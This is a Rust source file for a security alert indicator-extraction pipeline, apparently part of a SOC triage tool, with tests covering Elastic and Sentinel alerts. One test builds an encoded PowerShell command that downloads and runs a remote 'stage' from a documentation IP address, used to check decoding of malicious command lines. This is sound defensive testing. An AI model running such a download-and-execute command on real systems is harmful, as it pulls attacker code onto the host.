//! The indicator extraction pipeline and the alert fingerprint.
//!
//! Pass 1 is the source plugin (every field its vendor documents for indicators), pass 2 reads the
//! normalized alert's fields named by `normalized` mappings, pass 3 reads the raw payload at
//! `raw_payload` mapping paths (flat/nested keys, `[]` arrays, numbers accepted), and pass 4 scans
//! free text (the source's description, reason and command-line fields, and `free_text` mapping
//! paths) for indicators written in it, defanged or not ([`crate::freetext`]). Every value is
//! normalized as its type; values that cannot be their type are reported, not stored. The result
//! is de-duplicated on the normalized value; each indicator says which field and pass found it.

use md5::{Digest, Md5};
use serde::Serialize;
use serde_json::Value;

use crate::decoders::{self, Decoder, Switches};
use crate::indicators::{self, IndicatorType};
use crate::paths;
use crate::sources::{AlertSource, NormalizedAlert, RawIndicator};

string_enum!(
    /// The pass that found an indicator (`manual`: added by hand through REST or the console,
    /// never by extraction), as stored with the alert–indicator link.
    ExtractionPass, "extraction_pass", {
        SourcePlugin => "source_plugin",
        NormalizedMappings => "normalized_mappings",
        RawPayloadMappings => "raw_payload_mappings",
        FreeText => "free_text",
        Manual => "manual",
    }
);

impl ExtractionPass {
    /// How people name the pass.
    pub fn label(self) -> &'static str {
        match self {
            ExtractionPass::SourcePlugin => "Source Plugin",
            ExtractionPass::NormalizedMappings => "Normalized Mappings",
            ExtractionPass::RawPayloadMappings => "Raw Payload Mappings",
            ExtractionPass::FreeText => "Free Text",
            ExtractionPass::Manual => "Added by hand",
        }
    }
}

/// Where a mapping reads from.
pub const TARGET_NORMALIZED: &str = "normalized";
/// Where a mapping reads from.
pub const TARGET_RAW_PAYLOAD: &str = "raw_payload";
/// A raw payload field scanned as free text (pass 4): an active mapping adds the field (keeping
/// indicators of its type), an inactive one turns the field off; its path [`SOURCE_TEXT_FIELDS`]
/// stands for the source's own free-text fields, so an inactive `*` mapping turns the pass off for
/// its source (or for every source).
pub const TARGET_FREE_TEXT: &str = "free_text";
/// Every extraction target.
pub const TARGETS: [&str; 3] = [TARGET_NORMALIZED, TARGET_RAW_PAYLOAD, TARGET_FREE_TEXT];
/// The `free_text` mapping path that stands for the source plugin's own free-text fields.
pub const SOURCE_TEXT_FIELDS: &str = "*";

/// An indicator field mapping, as the pipeline needs it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MappingRule {
    /// `None` applies to every source.
    pub source_name: Option<String>,
    /// Field name (pass 2) or dotted path (pass 3).
    pub field_path: String,
    /// One of the eight types (others are skipped).
    pub indicator_type: String,
    /// `normalized` or `raw_payload`.
    pub extraction_target: String,
    /// Inactive rules are ignored.
    pub is_active: bool,
}

impl MappingRule {
    fn applies(&self, source: &str, target: &str) -> bool {
        self.is_active
            && self.extraction_target == target
            && self.source_name.as_deref().is_none_or(|s| s == source)
    }
}

/// One normalized, de-duplicated indicator.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize)]
pub struct Indicator {
    /// Type.
    #[serde(rename = "type")]
    pub kind: IndicatorType,
    /// Normalized value (the identity).
    pub value: String,
    /// Where the first occurrence was found.
    pub source_field: String,
    /// The pass that found it (`source_plugin`, `normalized_mappings`, `raw_payload_mappings`,
    /// `free_text`).
    pub pass: ExtractionPass,
    /// The decoder that revealed it inside an encoded or wrapped field (`cef`, `json`,
    /// `powershell-base64`, …); absent when it was written plainly.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub decoder: Option<Decoder>,
}

/// A value that could not be its type.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Rejected {
    /// Claimed type.
    #[serde(rename = "type")]
    pub kind: IndicatorType,
    /// The value as found.
    pub value: String,
    /// Where.
    pub source_field: String,
    /// Why it was refused.
    pub reason: String,
}

/// What one pass found.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct PassReport {
    /// `source_plugin`, `normalized_mappings` or `raw_payload_mappings`.
    pub pass_name: &'static str,
    /// Human label.
    pub pass_label: &'static str,
    /// Values found (normalized where possible).
    pub indicators: Vec<Indicator>,
    /// Values refused by normalization.
    pub rejected: Vec<Rejected>,
    /// Why the pass could not run.
    pub error: Option<String>,
}

/// The outcome of extraction.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Extraction {
    /// Per-pass detail.
    pub passes: Vec<PassReport>,
    /// The de-duplicated indicators, first occurrence wins.
    pub indicators: Vec<Indicator>,
}

fn pass(which: ExtractionPass, found: Vec<RawIndicator>) -> PassReport {
    let mut report = PassReport {
        pass_name: which.as_str(),
        pass_label: which.label(),
        indicators: Vec::new(),
        rejected: Vec::new(),
        error: None,
    };
    for raw in found {
        match indicators::normalize(raw.kind, &raw.value) {
            Ok(value) => report.indicators.push(Indicator {
                kind: raw.kind,
                value,
                source_field: raw.source_field,
                pass: which,
                decoder: raw.decoder,
            }),
            Err(reason) => report.rejected.push(Rejected {
                kind: raw.kind,
                value: raw.value,
                source_field: raw.source_field,
                reason,
            }),
        }
    }
    report
}

fn mapping_type(rule: &MappingRule) -> Option<IndicatorType> {
    IndicatorType::parse(&rule.indicator_type).ok()
}

/// Pass 2: the normalized alert's fields named by `normalized` mappings.
fn normalized_pass(alert: &NormalizedAlert, rules: &[MappingRule]) -> Vec<RawIndicator> {
    rules
        .iter()
        .filter(|r| r.applies(&alert.source_name, TARGET_NORMALIZED))
        .filter_map(|r| {
            let kind = mapping_type(r)?;
            let value = alert.fields.get(&r.field_path).filter(|v| !v.trim().is_empty())?;
            Some(RawIndicator {
                kind,
                value: value.clone(),
                source_field: format!("normalized.{}", r.field_path),
                decoder: None,
            })
        })
        .collect()
}

/// Pass 3: the raw payload at `raw_payload` mapping paths; lists of scalars yield each element.
fn raw_payload_pass(source: &str, raw: &Value, rules: &[MappingRule]) -> Vec<RawIndicator> {
    let mut out = Vec::new();
    for rule in rules.iter().filter(|r| r.applies(source, TARGET_RAW_PAYLOAD)) {
        let Some(kind) = mapping_type(rule) else { continue };
        for found in paths::resolve_all(raw, &rule.field_path) {
            let values: Vec<String> = match found {
                Value::Array(items) => items.iter().filter_map(paths::scalar_text).collect(),
                other => paths::scalar_text(other).into_iter().collect(),
            };
            for value in values.into_iter().filter(|v| !v.trim().is_empty()) {
                out.push(RawIndicator {
                    kind,
                    value,
                    source_field: format!("raw_payload.{}", rule.field_path),
                    decoder: None,
                });
            }
        }
    }
    out
}

/// Pass 4: the source's free-text fields (unless a `free_text` mapping turns them off) and the
/// fields of active `free_text` mappings, scanned for indicators written in them.
fn free_text_pass(source: &dyn AlertSource, raw: &Value, rules: &[MappingRule]) -> Vec<RawIndicator> {
    let here: Vec<&MappingRule> = rules
        .iter()
        .filter(|r| r.extraction_target == TARGET_FREE_TEXT)
        .filter(|r| r.source_name.as_deref().is_none_or(|s| s == source.name()))
        .collect();
    // The most specific mapping of a path decides: one for this source over one for all, and
    // between equals an inactive one (turning a field off is never undone by a duplicate).
    let decided = |path: &str| {
        here.iter()
            .filter(|r| r.field_path == path)
            .max_by_key(|r| (r.source_name.is_some(), !r.is_active))
            .map(|r| r.is_active)
    };
    let mut texts: Vec<(String, String, Option<IndicatorType>)> = Vec::new();
    if decided(SOURCE_TEXT_FIELDS).unwrap_or(true) {
        for (field, text) in source.free_text(raw) {
            if decided(&field).unwrap_or(true) {
                texts.push((field, text, None));
            }
        }
    }
    let own: Vec<&str> = source.documented_free_text();
    for rule in here.iter().filter(|r| r.is_active && r.field_path != SOURCE_TEXT_FIELDS) {
        if own.contains(&rule.field_path.as_str()) {
            continue;
        }
        let keep = mapping_type(rule);
        for found in paths::resolve_all(raw, &rule.field_path) {
            let values: Vec<String> = match found {
                Value::Array(items) => items.iter().filter_map(paths::scalar_text).collect(),
                other => paths::scalar_text(other).into_iter().collect(),
            };
            texts.extend(values.into_iter().map(|t| (rule.field_path.clone(), t, keep)));
        }
    }
    // Each decoder is switched like a field, by the path `@<decoder>`.
    let mut switches = Switches::all_on();
    for decoder in Decoder::ALL {
        if !decided(&decoder.switch()).unwrap_or(true) {
            switches.turn_off(*decoder);
        }
    }
    let mut out = Vec::new();
    for (field, text, keep) in texts {
        for found in decoders::scan(&text, &switches) {
            if keep.is_none_or(|k| k == found.kind) {
                out.push(RawIndicator {
                    kind: found.kind,
                    value: found.value,
                    source_field: field.clone(),
                    decoder: found.decoder,
                });
            }
        }
    }
    out
}

/// Runs passes 1 and 2 (and 3 and 4 when `with_raw_pass`) and de-duplicates.
pub fn extract(
    source: &dyn AlertSource,
    raw: &Value,
    alert: &NormalizedAlert,
    rules: &[MappingRule],
    with_raw_pass: bool,
) -> Extraction {
    let mut passes = vec![
        pass(ExtractionPass::SourcePlugin, source.extract(raw)),
        pass(ExtractionPass::NormalizedMappings, normalized_pass(alert, rules)),
    ];
    if with_raw_pass {
        passes.push(pass(ExtractionPass::RawPayloadMappings, raw_payload_pass(source.name(), raw, rules)));
        passes.push(pass(ExtractionPass::FreeText, free_text_pass(source, raw, rules)));
    }
    let mut seen = std::collections::HashSet::new();
    let indicators = passes
        .iter()
        .flat_map(|p| p.indicators.iter())
        .filter(|i| seen.insert((i.kind, i.value.clone())))
        .cloned()
        .collect();
    Extraction { passes, indicators }
}

/// v1's fingerprint: lowercase hex MD5 of `title \0 source \0 "type:value"|…` over the sorted,
/// de-duplicated (type, value) pairs — here over *normalized* values, so a defanged or re-cased
/// repeat is still a duplicate.
pub fn fingerprint(title: &str, source_name: &str, indicators: &[Indicator]) -> String {
    let mut pairs: Vec<(&str, &str)> =
        indicators.iter().map(|i| (i.kind.as_str(), i.value.as_str())).collect();
    pairs.sort();
    pairs.dedup();
    let joined = pairs.iter().map(|(t, v)| format!("{t}:{v}")).collect::<Vec<_>>().join("|");
    let mut hasher = Md5::new();
    hasher.update(title.as_bytes());
    hasher.update([0u8]);
    hasher.update(source_name.as_bytes());
    hasher.update([0u8]);
    hasher.update(joined.as_bytes());
    hex::encode(hasher.finalize())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sources;
    use chrono::Utc;
    use serde_json::json;

    fn rule(target: &str, path: &str, kind: &str) -> MappingRule {
        MappingRule {
            source_name: None,
            field_path: path.into(),
            indicator_type: kind.into(),
            extraction_target: target.into(),
            is_active: true,
        }
    }

    #[test]
    fn seed_story_elastic_payload_extracts_fully() {
        let raw = json!({
            "kibana.alert.rule": {"name": "Impossible Travel Detected", "severity": "high", "risk_score": 73},
            "source": {"ip": "185.220.101.47", "geo.city_name": "Frankfurt am Main", "geo.country_name": "Germany"},
            "user": {"email": "nick.hathaway@calseta.com", "name": "nick.hathaway"},
            "event": {"action": "user-login", "outcome": "success"},
            "okta.security_context": {"as.name": "Tor Project, Inc.", "domain": "torproject.org", "is_proxy": true}
        });
        let source = sources::find("elastic").unwrap();
        assert!(source.validate(&raw));
        let alert = source.normalize(&raw, Utc::now());
        assert_eq!(alert.title, "Impossible Travel Detected");
        assert_eq!(alert.severity, crate::alerts::Severity::High);
        let rules = [rule(TARGET_RAW_PAYLOAD, "okta.security_context.domain", "domain")];
        let found = extract(source, &raw, &alert, &rules, true);
        let pairs: Vec<(&str, &str)> =
            found.indicators.iter().map(|i| (i.kind.as_str(), i.value.as_str())).collect();
        assert_eq!(
            pairs,
            [
                ("ip", "185.220.101.47"),
                ("email", "nick.hathaway@calseta.com"),
                ("account", "nick.hathaway"),
                ("domain", "torproject.org")
            ]
        );
    }

    #[test]
    fn raw_pass_reaches_arrays_and_numbers_and_reports_rejects() {
        let raw = json!({"title": "t", "net": {"peers": [{"addr": "10.0.0.1"}, {"addr": "nope"}]}, "port": 443, "ips": ["1.1.1.1", "8.8.8.8"]});
        let source = sources::find("generic").unwrap();
        let alert = source.normalize(&raw, Utc::now());
        let rules = [
            rule(TARGET_RAW_PAYLOAD, "net.peers[].addr", "ip"),
            rule(TARGET_RAW_PAYLOAD, "ips", "ip"),
            rule(TARGET_RAW_PAYLOAD, "port", "account"),
            rule(TARGET_RAW_PAYLOAD, "port", "not-a-type"),
        ];
        let found = extract(source, &raw, &alert, &rules, true);
        let values: Vec<&str> = found.indicators.iter().map(|i| i.value.as_str()).collect();
        assert_eq!(values, ["10.0.0.1", "1.1.1.1", "8.8.8.8", "443"]);
        assert_eq!(found.passes[2].rejected.len(), 1);
        assert_eq!(found.passes[2].rejected[0].value, "nope");
        // Without the raw pass (as for fingerprints) only passes 1–2 run.
        assert_eq!(extract(source, &raw, &alert, &rules, false).passes.len(), 2);
        assert_eq!(found.passes.len(), 4);
    }

    #[test]
    fn the_most_specific_free_text_mapping_decides() {
        let raw = json!({"title": "t", "description": "see 203.0.113.5"});
        let source = sources::find("generic").unwrap();
        let alert = source.normalize(&raw, Utc::now());
        let with =
            |rules: &[MappingRule]| extract(source, &raw, &alert, rules, true).passes[3].indicators.len();
        let text_rule = |path: &str, source: Option<&str>, active: bool| MappingRule {
            source_name: source.map(str::to_string),
            field_path: path.into(),
            indicator_type: "ip".into(),
            extraction_target: TARGET_FREE_TEXT.into(),
            is_active: active,
        };
        assert_eq!(with(&[]), 1, "on by default");
        assert_eq!(with(&[text_rule("*", None, false)]), 0, "off everywhere");
        assert_eq!(
            with(&[text_rule("*", None, false), text_rule("*", Some("generic"), true)]),
            1,
            "on for this source"
        );
        assert_eq!(with(&[text_rule("*", Some("elastic"), false)]), 1, "another source's switch");
        assert_eq!(with(&[text_rule("description", None, false)]), 0, "one field off");
        assert_eq!(
            with(&[text_rule("*", None, true), text_rule("*", None, false)]),
            0,
            "off wins between equals"
        );
        // Without the raw pass (the fingerprint's run) pass 4 does not run either.
        assert_eq!(extract(source, &raw, &alert, &[], false).passes.len(), 2);
    }

    fn found_with(
        source: &str,
        raw: &Value,
        rules: &[MappingRule],
    ) -> Vec<(String, String, String, Option<&'static str>)> {
        let source = sources::find(source).unwrap();
        assert!(source.validate(raw), "{raw}");
        let alert = source.normalize(raw, Utc::now());
        extract(source, raw, &alert, rules, true)
            .indicators
            .into_iter()
            .map(|i| (i.kind.as_str().to_string(), i.value, i.source_field, i.decoder.map(Decoder::as_str)))
            .collect()
    }

    #[test]
    fn a_sentinel_security_alert_yields_its_entities_string_and_extended_properties() {
        // As Log Analytics stores it (and Logic Apps forward it): Entities and ExtendedProperties
        // are JSON strings.
        let entities = serde_json::to_string(&json!([
            {"$id": "2", "Type": "account", "Name": "jdoe", "UPNSuffix": "contoso.com"},
            {"$id": "3", "Type": "ip", "Address": "185.220.101.48"},
            {"$id": "4", "Type": "host", "HostName": "ws-042", "DnsDomain": "corp.local"},
            {"$id": "5", "Type": "url", "Url": "https://login-contoso.top/owa"},
            {"$id": "6", "Type": "filehash", "Algorithm": "SHA256", "Value": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}
        ]))
        .unwrap();
        let extended = serde_json::to_string(
            &json!({"Client IP Address": "198.51.100.61", "User Account": "ann@contoso.com"}),
        )
        .unwrap();
        let raw = json!({
            "AlertName": "Anonymous IP address", "AlertSeverity": "Medium", "SystemAlertId": "b1",
            "Description": "Sign-in from an anonymous IP address", "StartTime": "2026-12-01T10:00:00Z",
            "Entities": entities, "ExtendedProperties": extended,
        });
        let source = sources::find("sentinel").unwrap();
        let alert = source.normalize(&raw, Utc::now());
        assert_eq!(
            (alert.title.as_str(), alert.severity),
            ("Anonymous IP address", crate::alerts::Severity::Medium)
        );
        let found = found_with("sentinel", &raw, &[]);
        let pairs: Vec<(&str, &str, Option<&str>)> =
            found.iter().map(|(k, v, _, d)| (k.as_str(), v.as_str(), *d)).collect();
        for expected in [
            ("account", "jdoe@contoso.com", Some("json")),
            ("ip", "185.220.101.48", Some("json")),
            ("url", "https://login-contoso.top/owa", Some("json")),
            ("hash_sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", Some("json")),
            ("ip", "198.51.100.61", Some("json")),
            ("account", "ann@contoso.com", Some("json")),
        ] {
            assert!(pairs.contains(&expected), "{expected:?} in {pairs:?}");
        }
        assert!(found.iter().any(|(_, _, field, _)| field == "ExtendedProperties"));
    }

    #[test]
    fn ecs_threat_indicator_fields_are_read_in_pass_one() {
        let raw = json!({
            "kibana.alert.rule": {"name": "Threat intel match"},
            "threat": {"indicator": {
                "ip": "203.0.113.80", "domain": "evil-cdn.top", "url": {"full": "https://evil-cdn.top/a", "original": "hxxps://evil-cdn[.]top/b"},
                "email": {"address": "phish@evil-cdn.top"},
                "file": {"hash": {"md5": "d41d8cd98f00b204e9800998ecf8427e", "sha1": "da39a3ee5e6b4b0d3255bfef95601890afd80709",
                                   "sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}
            }}
        });
        let found = found_with("elastic", &raw, &[]);
        let plugin: Vec<(&str, &str)> = found
            .iter()
            .filter(|(_, _, field, _)| field.starts_with("threat.indicator."))
            .map(|(k, v, _, _)| (k.as_str(), v.as_str()))
            .collect();
        for kind in ["ip", "domain", "url", "email", "hash_md5", "hash_sha1", "hash_sha256"] {
            assert!(plugin.iter().any(|(k, _)| *k == kind), "{kind} in {plugin:?}");
        }
        assert!(plugin.contains(&("url", "https://evil-cdn.top/b")), "url.original refanged: {plugin:?}");
    }

    #[test]
    fn decoded_indicators_name_their_field_and_decoder_and_each_decoder_has_a_switch() {
        use base64::Engine as _;
        let command = "IEX (iwr http://203.0.113.9:8080/stage).Content";
        let utf16: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let line =
            format!("powershell.exe -nop -enc {}", base64::engine::general_purpose::STANDARD.encode(utf16));
        let raw = json!({"title": "Encoded PowerShell", "command_line": line,
            "raw": "<134>Dec 01 10:00:00 fw CEF:0|Acme|FW|1|1|Blocked|5|src=198.51.100.7 suser=CORP\\\\ann"});
        let found = found_with("generic", &raw, &[]);
        assert!(
            found.contains(&(
                "url".into(),
                "http://203.0.113.9:8080/stage".into(),
                "command_line".into(),
                Some("powershell-base64")
            )),
            "{found:?}"
        );
        assert!(
            found.contains(&("account".into(), "corp\\ann".into(), "raw".into(), Some("cef"))),
            "{found:?}"
        );
        let off = |decoder: Decoder, source: Option<&str>| MappingRule {
            source_name: source.map(str::to_string),
            field_path: decoder.switch(),
            indicator_type: "url".into(),
            extraction_target: TARGET_FREE_TEXT.into(),
            is_active: false,
        };
        let without = found_with("generic", &raw, &[off(Decoder::PowershellBase64, None)]);
        assert!(!without.iter().any(|i| i.3 == Some("powershell-base64")), "{without:?}");
        assert!(without.iter().any(|i| i.3 == Some("cef")), "the other decoders still run");
        let other_source = found_with("generic", &raw, &[off(Decoder::Cef, Some("elastic"))]);
        assert!(other_source.iter().any(|i| i.3 == Some("cef")), "another source's switch");
    }

    #[test]
    fn fingerprint_is_order_independent_md5_over_normalized_values() {
        let a = Indicator {
            kind: IndicatorType::Ip,
            value: "1.2.3.4".into(),
            source_field: "x".into(),
            pass: ExtractionPass::SourcePlugin,
            decoder: None,
        };
        let b = Indicator {
            kind: IndicatorType::Domain,
            value: "evil.com".into(),
            source_field: "y".into(),
            pass: ExtractionPass::SourcePlugin,
            decoder: None,
        };
        let f1 = fingerprint("T", "generic", &[a.clone(), b.clone()]);
        let f2 = fingerprint("T", "generic", &[b, a.clone(), a]);
        assert_eq!(f1, f2);
        assert_eq!(f1.len(), 32);
        assert_ne!(f1, fingerprint("T2", "generic", &[]));
        // v1 compatibility: no indicators → md5("T\0generic\0").
        assert_eq!(fingerprint("T", "generic", &[]), hex::encode(Md5::digest(b"T\0generic\0")));
    }

    fn arbitrary_json() -> impl proptest::strategy::Strategy<Value = Value> {
        use proptest::prelude::*;
        let leaf = prop_oneof![
            Just(Value::Null),
            any::<bool>().prop_map(Value::Bool),
            any::<i64>().prop_map(|n| json!(n)),
            any::<f64>().prop_filter("finite", |f| f.is_finite()).prop_map(|f| json!(f)),
            ".{0,12}".prop_map(Value::String),
            proptest::sample::select(vec![
                "title",
                "properties",
                "severity",
                "Entities",
                "result",
                "kibana.alert.rule.name",
                "1.2.3.4",
                "High",
                "sha256",
                "src_ip",
                "Type",
                "ip",
                "Address",
            ])
            .prop_map(|s| Value::String(s.into())),
        ];
        leaf.prop_recursive(4, 48, 6, |inner| {
            prop_oneof![
                proptest::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
                proptest::collection::btree_map(
                    proptest::sample::select(vec![
                        "title",
                        "properties",
                        "severity",
                        "Entities",
                        "Type",
                        "Address",
                        "result",
                        "search_name",
                        "kibana.alert.rule.name",
                        "kibana",
                        "alert",
                        "rule",
                        "src_ip",
                        "user",
                        "indicators",
                        "type",
                        "value",
                        "labels",
                        "labelName",
                        "_time",
                        "occurred_at",
                        "tags",
                    ])
                    .prop_map(str::to_string),
                    inner,
                    0..6,
                )
                .prop_map(|m| Value::Object(m.into_iter().collect())),
            ]
        })
    }

    proptest::proptest! {
        #[test]
        fn normalization_and_extraction_never_panic(raw in arbitrary_json()) {
            let rules = [rule(TARGET_RAW_PAYLOAD, "result.user", "account"), rule(TARGET_RAW_PAYLOAD, "a.b[].c", "ip")];
            for source in sources::registry() {
                let valid = source.validate(&raw);
                let alert = source.normalize(&raw, Utc::now());
                let found = extract(source, &raw, &alert, &rules, true);
                let _ = (valid, source.rule_ref(&raw), fingerprint(&alert.title, source.name(), &found.indicators));
            }
        }
    }
}
